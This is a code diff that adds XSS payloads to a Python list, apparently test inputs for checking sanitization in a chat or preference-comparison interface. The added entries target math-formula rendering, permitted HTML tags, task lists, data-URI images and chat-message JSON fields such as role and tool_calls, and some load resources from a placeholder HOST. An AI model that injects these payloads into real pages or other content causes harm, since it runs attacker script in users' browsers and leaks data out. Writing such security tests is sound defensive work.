@@ -97,4 +97,27 @@ PAYLOADS = [
     f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
     '<span class="rl-banner" data-action="left">x</span>',
     f'<button data-action="left" onclick="{RUN}">A is better</button>',
+    # Formulas
+    rf"\(\href{{javascript:{RUN}}}{{x}}\)",
+    rf"$$\text{{<img src=x onerror={RUN}>}}$$",
+    rf"\[\text{{</mtext></math><script>{RUN}</script>}}\]",
+    rf"$\style{{background:url({HOST}/f.png)}}{{x}}$",
+    rf'$\color{{"><img/src=x/onerror={RUN}>}}{{x}}$',
+    rf'$$\begin{{array}}{{"onload={RUN}"}}a&b\end{{array}}$$',
+    rf"\(\unheard{{<svg onload={RUN}>}}\)",
+    rf"$\mathop{{<iframe src=javascript:{RUN}>}}$",
+    # The few tags that are rendered, and boxes of tasks
+    f"<br onload={RUN}><sub onmouseover={RUN}>x</sub><b style='background:url({HOST}/b.png)'>x</b>",
+    f"<sub><img src=x onerror={RUN}></sub><kbd><script>{RUN}</script></kbd>",
+    f"- [x] <img src=x onerror={RUN}>\n- [ ] <svg onload={RUN}>",
+    # Images that a text holds itself
+    f'![x](data:image/png;base64,AAAA"onerror="{RUN})',
+    f"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![y](data:text/html,<script>{RUN}</script>)",
+    # Conversations
+    f'[{{"role": "<img src=x onerror={RUN}>", "name": "<svg onload={RUN}>", "content": "<script>{RUN}</script>"}}]',
+    f'[{{"role": "system", "content": "<details open ontoggle={RUN}>"}}, {{"role": "user", "content": ['
+    f'{{"type": "image_url", "image_url": {{"url": "{HOST}/c.png"}}}}, '
+    f'{{"type": "image_url", "image_url": "javascript:{RUN}"}}]}}]',
+    f'[{{"role": "assistant", "content": null, "tool_calls": [{{"function": {{"name": "<img src=x onerror={RUN}>",'
+    f' "arguments": "<svg onload={RUN}>"}}}}]}}, {{"role": "tool", "content": "<iframe src={HOST}>"}}]',
 ]
